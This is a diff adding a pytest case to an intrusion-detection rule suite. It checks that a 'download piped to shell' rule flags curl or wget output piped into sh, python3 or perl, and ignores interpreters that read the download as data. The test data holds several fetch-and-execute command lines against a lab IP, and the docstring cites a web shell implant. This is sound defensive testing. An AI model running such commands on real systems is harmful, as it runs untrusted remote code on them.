@@ -309,6 +309,28 @@ def test_kernel_module_rule_on_crafted_module_loads(path, exe, alerts):
     assert [alert.rule_id for alert in raised if alert.rule_id == key] == [key] * alerts
 
 
+@pytest.mark.parametrize(
+    ("command_line", "alerts"),
+    [
+        ("sh -c curl -s http://10.213.0.9:8443/assets/w3r9 | /usr/bin/python3 -", 1),
+        ("sh -c curl -s http://10.213.0.9/a | python3", 1),
+        ("sh -c wget -qO- http://10.213.0.9/a | perl", 1),
+        ("sh -c curl -s http://10.213.0.9/a | sh", 1),
+        ("sh -c curl -s http://127.0.0.1:8000/api | python3 -m json.tool", 0),
+        ("sh -c curl -s http://127.0.0.1:8000/api | python3 -c 'import json, sys'", 0),
+        ("sh -c curl -s http://127.0.0.1:8000/api | python3 parse.py", 0),
+    ],
+)
+def test_a_download_piped_into_an_interpreter_reading_its_program(command_line, alerts):
+    """The capture covers ``curl | sh``; a download piped into an interpreter that reads its
+    program from standard input is the same act (the web shell's ``curl URL | python3 -``
+    implant); one that is given a script, ``-c`` or ``-m`` reads the download as data."""
+    event = make_event(Action.EXEC, exe="/bin/sh", args=tuple(command_line.split(" ")))
+    _, raised = run([event])
+    key = key_of()["download_piped_to_shell"]
+    assert [alert.rule_id for alert in raised if alert.rule_id == key] == [key] * alerts
+
+
 def test_an_admin_ssh_session_that_accepts_new_host_keys_raises_no_incident(data_dir):
     """The lab's ssh-admin workload, recorded beside an attack on the shared machine: ssh and
     scp with StrictHostKeyChecking=accept-new (a changed host key is still refused and the new
